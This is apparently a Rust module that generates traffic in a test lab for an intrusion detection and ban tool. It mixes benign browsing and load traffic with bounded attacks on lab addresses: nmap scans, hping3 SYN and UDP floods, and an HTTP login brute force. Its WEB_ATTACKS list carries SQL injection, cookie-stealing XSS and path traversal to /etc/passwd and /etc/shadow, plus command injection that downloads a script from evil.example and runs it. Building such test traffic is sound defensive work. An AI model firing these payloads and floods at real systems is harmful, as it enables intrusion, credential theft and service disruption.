//! Real traffic for the lab: servers on the LAN host, benign use from the client, attacks from the
//! attacker. Every generator is bounded in packets or time, and targets only lab addresses.

use std::process::{Command, Output};
use std::time::Duration;

use anyhow::{Context, Result};

use crate::lab::{Lab, CLIENT_V4, SERVER_V4, SERVER_V6};
use crate::netns::Netns;
use crate::process::Managed;

/// TCP port of the lab's web server.
pub const HTTP_PORT: u16 = 80;
/// UDP port of the lab's DNS-like echo service.
pub const DNS_PORT: u16 = 53;
/// TCP port of the lab's SSH-like banner service.
pub const SSH_PORT: u16 = 22;

/// The LAN server's services, stopped on drop.
#[derive(Debug)]
pub struct Servers {
    _procs: Vec<Managed>,
}

/// Starts a web server (dual-stack), a UDP echo on the DNS port and an SSH-like banner on the server host,
/// and waits until the web server answers.
pub fn start_servers(lab: &Lab) -> Result<Servers> {
    let srv = &lab.server;
    let www = lab.path("www");
    std::fs::create_dir_all(www.join("api"))?;
    std::fs::write(www.join("index.html"), "<html><body>lab</body></html>\n")?;
    std::fs::write(www.join("api/status.json"), "{\"ok\": true}\n")?;
    let mut http = srv.command("python3");
    http.args(["-m", "http.server", "80", "--bind", "::", "--directory"])
        .arg(&www);
    let mut dns = srv.command("socat");
    dns.args([
        "-T1",
        &format!("UDP6-RECVFROM:{DNS_PORT},fork,ipv6only=0"),
        "SYSTEM:cat",
    ]);
    let mut ssh = srv.command("socat");
    ssh.args([
        &format!("TCP6-LISTEN:{SSH_PORT},fork,reuseaddr,ipv6only=0"),
        "SYSTEM:echo SSH-2.0-OpenSSH_9.2p1 Debian-2; sleep 1",
    ]);
    let procs = vec![
        Managed::spawn("http", http, lab.path("http.log"))?,
        Managed::spawn("dns", dns, lab.path("dns.log"))?,
        Managed::spawn("ssh", ssh, lab.path("ssh.log"))?,
    ];
    for _ in 0..100 {
        if srv
            .exec("curl", &["-sf", "-o", "/dev/null", "http://127.0.0.1/"])
            .is_ok()
        {
            return Ok(Servers { _procs: procs });
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    anyhow::bail!("the lab web server did not come up: {}", procs[0].log())
}

/// Outcome of one HTTP request.
pub fn http_get(host: &Netns, url: &str, timeout: Duration) -> Result<Output> {
    host.command("curl")
        .args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time"])
        .arg(format!("{:.1}", timeout.as_secs_f64()))
        .arg(url)
        .output()
        .context("run curl")
}

/// True if `host` gets an HTTP answer from the server within `timeout`.
pub fn can_reach_web(host: &Netns, v6: bool, timeout: Duration) -> bool {
    let url = if v6 {
        format!("http://[{SERVER_V6}]:{HTTP_PORT}/")
    } else {
        format!("http://{SERVER_V4}:{HTTP_PORT}/")
    };
    http_get(host, &url, timeout)
        .map(|o| o.stdout.starts_with(b"200"))
        .unwrap_or(false)
}

/// Benign use from `host`: page and API fetches over IPv4 and IPv6, a short wrk load, DNS-like queries and
/// an SSH banner fetch. Returns the number of HTTP requests that failed.
pub fn benign_round(host: &Netns) -> Result<usize> {
    let mut failed = 0;
    for url in [
        format!("http://{SERVER_V4}/"),
        format!("http://{SERVER_V4}/api/status.json"),
        format!("http://[{SERVER_V6}]/index.html"),
        format!("http://{SERVER_V4}/?q=it%27s+a+%3Ctest%3E"),
    ] {
        let out = http_get(host, &url, Duration::from_secs(3))?;
        if !(out.stdout.starts_with(b"200")) {
            failed += 1;
        }
    }
    host.command("wrk")
        .args(["-t1", "-c2", "-d2s", &format!("http://{SERVER_V4}/")])
        .output()
        .context("run wrk")?;
    for name in ["example", "updates", "time"] {
        let query = format!("query {name}.lan A");
        socat_session(
            host,
            &format!("UDP:{SERVER_V4}:{DNS_PORT}"),
            &[&query],
            Duration::ZERO,
        )?;
    }
    socat_session(
        host,
        &format!("TCP:{SERVER_V4}:{SSH_PORT},connect-timeout=2"),
        &[],
        Duration::ZERO,
    )?;
    Ok(failed)
}

/// How nmap probes ports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScanKind {
    /// Half-open SYN scan (`-sS`): a SYN per port, never a completed handshake.
    Syn,
    /// Connect scan (`-sT`): full handshakes on open ports, resets from closed ones.
    Connect,
}

/// The nmap command that scans the first `ports` ports of `target` (IPv4 or IPv6) from `host`.
pub fn nmap_command(host: &Netns, kind: ScanKind, target: &str, ports: u16) -> Command {
    let mut cmd = host.command("nmap");
    if target.contains(':') {
        cmd.arg("-6");
    }
    cmd.arg(match kind {
        ScanKind::Syn => "-sS",
        ScanKind::Connect => "-sT",
    })
    .args(["-Pn", "-n", "-T4", "--max-retries", "1", "-p"])
    .arg(format!("1-{ports}"))
    .arg(target);
    cmd
}

/// An nmap TCP SYN scan of the server's first `ports` ports.
pub fn nmap_syn_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
    nmap_command(host, ScanKind::Syn, target, ports)
        .output()
        .context("run nmap")
}

/// An nmap TCP connect scan of the server's first `ports` ports.
pub fn nmap_connect_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
    nmap_command(host, ScanKind::Connect, target, ports)
        .output()
        .context("run nmap")
}

/// The hping3 command that sends `count` SYNs to the web port of `target` (IPv4), one every 200 µs.
pub fn hping3_syn_flood_command(host: &Netns, target: &str, count: u32) -> Command {
    let mut cmd = host.command("hping3");
    cmd.args(["-q", "-S", "-p", "80", "-i", "u200", "-c"])
        .arg(count.to_string())
        .arg(target);
    cmd
}

/// An hping3 SYN flood of `count` packets at the web port.
pub fn hping3_syn_flood(host: &Netns, target: &str, count: u32) -> Result<Output> {
    hping3_syn_flood_command(host, target, count)
        .output()
        .context("run hping3")
}

/// HTTP requests carrying attack payloads: SQL injection, XSS, path traversal and command injection.
pub const WEB_ATTACKS: &[&str] = &[
    "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/login?user=admin%27%20OR%20%271%27=%271%27--&pass=x",
    "/search?q=%3Cscript%3Edocument.location=%27http://evil.example/c?%27%2Bdocument.cookie%3C/script%3E",
    "/comment?text=%3Cimg%20src=x%20onerror=alert(document.domain)%3E",
    "/download?file=../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/cgi-bin/run?cmd=%7Cwget%20http://evil.example/x.sh%20-O-%7Csh",
];

/// `host` for a URL: IPv6 addresses in brackets.
pub fn url_host(addr: &str) -> String {
    if addr.contains(':') {
        format!("[{addr}]")
    } else {
        addr.to_owned()
    }
}

/// One curl process sending every [`WEB_ATTACKS`] request from `host` to `target` in turn, each given up
/// after 2 s; it prints each answer's HTTP status (`000`: none) on a line.
pub fn web_attacks_command(host: &Netns, target: &str) -> Command {
    let mut cmd = host.command("curl");
    cmd.arg("-s");
    for (i, path) in WEB_ATTACKS.iter().enumerate() {
        if i > 0 {
            cmd.arg("--next");
        }
        cmd.args([
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}\\n",
            "--max-time",
            "2",
        ])
        .arg(format!("http://{}{path}", url_host(target)));
    }
    cmd
}

/// Sends every [`WEB_ATTACKS`] request from `host`; returns how many got any HTTP answer.
pub fn web_attacks(host: &Netns, target: &str) -> Result<usize> {
    let out = web_attacks_command(host, target)
        .output()
        .context("run curl")?;
    Ok(String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|code| code.starts_with(|c: char| c.is_ascii_digit() && c != '0'))
        .count())
}

/// Passwords an HTTP login brute force tries (with a counter appended once the list is through).
const PASSWORDS: &[&str] = &[
    "123456", "password", "admin", "letmein", "qwerty", "welcome", "monkey", "dragon", "master",
    "sunshine", "princess", "football", "iloveyou", "trustno1", "baseball", "shadow",
];

/// One curl process brute-forcing an HTTP Basic-auth login from `host`, as password-guessing tools do
/// (hydra's `http-get`): `attempts` requests for `/admin/` on `target` as user `admin` with a different
/// password each, each on a connection of its own, at most `per_sec` a second (curl's `--rate`). Each
/// attempt gives up after a second without a connection, so a dropped attacker does not stall it.
pub fn http_brute_force_command(
    host: &Netns,
    target: &str,
    attempts: u32,
    per_sec: u32,
) -> Command {
    let mut cmd = host.command("curl");
    cmd.arg("-s").arg("--rate").arg(format!("{per_sec}/s"));
    let url = format!("http://{}/admin/", url_host(target));
    for i in 0..attempts as usize {
        if i > 0 {
            cmd.arg("--next");
        }
        let password = match PASSWORDS.get(i) {
            Some(p) => (*p).to_owned(),
            None => format!("{}{}", PASSWORDS[i % PASSWORDS.len()], i / PASSWORDS.len()),
        };
        cmd.args([
            "-o",
            "/dev/null",
            "--connect-timeout",
            "1",
            "--max-time",
            "2",
        ])
        .args(["-H", "Connection: close", "-u"])
        .arg(format!("admin:{password}"))
        .arg(&url);
    }
    cmd
}

/// The hping3 command of a UDP flood from `host`: `count` empty datagrams to a closed port of `target`
/// (IPv4), one every 200 µs, each from another source port. Its source address could be forged, so
/// Argus must not ban on it unless `enforcer.ban_spoofable_evidence` is set.
pub fn hping3_udp_flood_command(host: &Netns, target: &str, count: u32) -> Command {
    let mut cmd = host.command("hping3");
    cmd.args(["-q", "--udp", "-p", "9", "-i", "u200", "-c"])
        .arg(count.to_string())
        .arg(target);
    cmd
}

/// Extra addresses of the benign client namespace, so the baseline has many sources with different
/// habits (10.203.1.21 … and fd00:203:1::21 …).
pub fn add_client_aliases(lab: &Lab, count: u8) -> Result<Vec<String>> {
    let mut addrs = Vec::new();
    for i in 0..count {
        let v4 = format!("10.203.1.{}", 21 + i);
        let v6 = format!("fd00:203:1::{:x}", 0x21 + i);
        crate::netns::addr(&lab.client, "eth0", &format!("{v4}/24"))?;
        crate::netns::addr(&lab.client, "eth0", &format!("{v6}/64"))?;
        addrs.push(v4);
        addrs.push(v6);
    }
    Ok(addrs)
}

/// A bulk file on the web server, for download traffic.
pub fn add_bulk_file(lab: &Lab, megabytes: usize) -> Result<()> {
    let data: Vec<u8> = (0..megabytes * 1024 * 1024)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(lab.path("www").join("bulk.bin"), data)?;
    Ok(())
}

/// Pages of the lab's web site ([`add_site`]), each with its own set of assets.
pub const SITE_PAGES: usize = 4;

/// A small web site on the server for browser-like page loads: `/site/page<N>.html` (N below
/// [`SITE_PAGES`]), each referencing 6 to 24 stylesheets, scripts and images of 1 to 60 KiB.
pub fn add_site(lab: &Lab) -> Result<()> {
    let dir = lab.path("www").join("site");
    std::fs::create_dir_all(&dir)?;
    for page in 0..SITE_PAGES {
        let mut html = String::from("<!doctype html><html><head><title>lab</title>\n");
        for (n, (name, kib)) in site_assets(page).into_iter().enumerate() {
            let body: Vec<u8> = (0..kib * 1024)
                .map(|i| (i.wrapping_mul(2_654_435_761) >> (n % 13)) as u8)
                .collect();
            std::fs::write(dir.join(&name), body)?;
            html.push_str(&format!("<link rel=\"preload\" href=\"/site/{name}\">\n"));
        }
        html.push_str("</head><body><p>a lab page</p></body></html>\n");
        std::fs::write(dir.join(format!("page{page}.html")), html)?;
    }
    Ok(())
}

/// The assets page `page` of the site references: file name under `/site/` and size in KiB.
fn site_assets(page: usize) -> Vec<(String, usize)> {
    let count = |p: usize| 6 + p * 6;
    let first: usize = (0..page).map(count).sum();
    (first..first + count(page))
        .map(|n| match n % 3 {
            0 => (format!("asset{n}.css"), 1 + n % 8),
            1 => (format!("asset{n}.js"), 4 + n % 24),
            _ => (format!("asset{n}.png"), 8 + n % 52),
        })
        .collect()
}

/// A small deterministic generator (SplitMix64), so a traffic schedule is reproducible from its seed.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// A uniformly chosen item of the non-empty `items`.
    pub fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }

    /// A duration uniformly between `lo` and `hi`.
    pub fn between(&mut self, lo: Duration, hi: Duration) -> Duration {
        let span = hi.saturating_sub(lo).as_millis().max(1) as u64;
        lo + Duration::from_millis(self.below(span))
    }
}

/// One activity of a benign user, from source address `src`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Activity {
    /// A few pages and API calls with think time.
    Browse,
    /// Polling a JSON API.
    Poll,
    /// Downloading a large file.
    Bulk,
    /// DNS-like UDP queries.
    Dns,
    /// An interactive session: small lines with pauses.
    Interactive,
    /// A browser loading one page of the lab site ([`add_site`]): the HTML, then its assets over up to
    /// six parallel connections, as browsers do (the lab server closes every connection after one
    /// response, so each asset is a connection of its own).
    PageBurst,
    /// A short load test: one second of back-to-back page fetches over two connections. `wrk` cannot
    /// choose its source address, so it runs from the client's primary IPv4 address; other addresses
    /// use `curl --parallel`, stopped after a second, for the same shape.
    Load,
}

impl Activity {
    /// Every activity.
    pub const ALL: [Activity; 7] = [
        Self::Browse,
        Self::Poll,
        Self::Bulk,
        Self::Dns,
        Self::Interactive,
        Self::PageBurst,
        Self::Load,
    ];
}

/// Runs one activity from `src` (an address of `host`) against the server; `rng` picks among its
/// variants (which page a [`Activity::PageBurst`] loads).
pub fn run_activity(host: &Netns, src: &str, activity: Activity, rng: &mut Rng) -> Result<()> {
    let v6 = src.contains(':');
    let server = if v6 {
        format!("[{SERVER_V6}]")
    } else {
        SERVER_V4.to_owned()
    };
    let curl = |path: &str, extra: &[&str]| -> Result<()> {
        host.command("curl")
            .args([
                "-s",
                "-o",
                "/dev/null",
                "--max-time",
                "10",
                "--interface",
                src,
            ])
            .args(extra)
            .arg(format!("http://{server}{path}"))
            .output()
            .context("run curl")?;
        Ok(())
    };
    match activity {
        Activity::Browse => {
            for path in [
                "/",
                "/index.html",
                "/api/status.json",
                "/?q=it%27s+%22fine%22+%3C3",
            ] {
                curl(
                    path,
                    &["-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"],
                )?;
                std::thread::sleep(Duration::from_millis(150));
            }
        }
        Activity::Poll => {
            for _ in 0..5 {
                curl("/api/status.json", &["-H", "Accept: application/json"])?;
                std::thread::sleep(Duration::from_millis(200));
            }
        }
        Activity::Bulk => curl("/bulk.bin", &["--limit-rate", "20M"])?,
        Activity::Dns => {
            for name in ["example", "updates", "time", "mail"] {
                let bind = if v6 {
                    format!("UDP6:{server}:{DNS_PORT},bind=[{src}]")
                } else {
                    format!("UDP4:{server}:{DNS_PORT},bind={src}")
                };
                let query = format!("query {name}.lan A");
                socat_session(host, &bind, &[&query], Duration::ZERO)?;
            }
        }
        Activity::Interactive => {
            let target = if v6 {
                format!("TCP6:{server}:{SSH_PORT},bind=[{src}],connect-timeout=2")
            } else {
                format!("TCP4:{server}:{SSH_PORT},bind={src},connect-timeout=2")
            };
            socat_session(
                host,
                &target,
                &["ls -la\n", "uptime\n", "exit\n"],
                Duration::from_millis(120),
            )?;
        }
        Activity::PageBurst => {
            let page = rng.below(SITE_PAGES as u64) as usize;
            let ua = ["-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"];
            curl(&format!("/site/page{page}.html"), &ua)?;
            let mut parallel = host.command("curl");
            parallel
                .args(["-s", "-Z", "--parallel-max", "6", "--max-time", "10"])
                .args(["--interface", src])
                .args(ua);
            for (asset, _) in site_assets(page) {
                parallel
                    .args(["-o", "/dev/null"])
                    .arg(format!("http://{server}/site/{asset}"));
            }
            parallel.output().context("run curl")?;
        }
        Activity::Load => {
            let url = format!("http://{server}/");
            if src == CLIENT_V4 {
                host.command("wrk")
                    .args(["-t1", "-c2", "-d1s", &url])
                    .output()
                    .context("run wrk")?;
            } else {
                // Stopped after a second, as wrk's -d1s: a load test is short by definition.
                let mut load = host.command("timeout");
                load.args(["1", "curl", "-s", "-Z", "--parallel-max", "2"])
                    .args(["--interface", src]);
                for _ in 0..LOAD_REQUESTS {
                    load.args(["-o", "/dev/null", &url]);
                }
                load.output().context("run curl")?;
            }
        }
    }
    Ok(())
}

/// Requests queued for an [`Activity::Load`] run with curl: more than the lab server answers in the
/// second the run lasts.
const LOAD_REQUESTS: usize = 1000;

/// Connects socat to `address` from `host`, writes `lines` with `gap` between them, and waits for the
/// session to end (socat's one-second idle timeout).
fn socat_session(host: &Netns, address: &str, lines: &[&str], gap: Duration) -> Result<()> {
    use std::io::Write;
    let mut child = host
        .command("socat")
        .args(["-T1", "-", address])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .context("run socat")?;
    if let Some(mut stdin) = child.stdin.take() {
        for line in lines {
            // The peer may close first (a banner service); what was sent is enough.
            let _ = stdin.write_all(line.as_bytes());
            std::thread::sleep(gap);
        }
    }
    child.wait().context("wait for socat")?;
    Ok(())
}
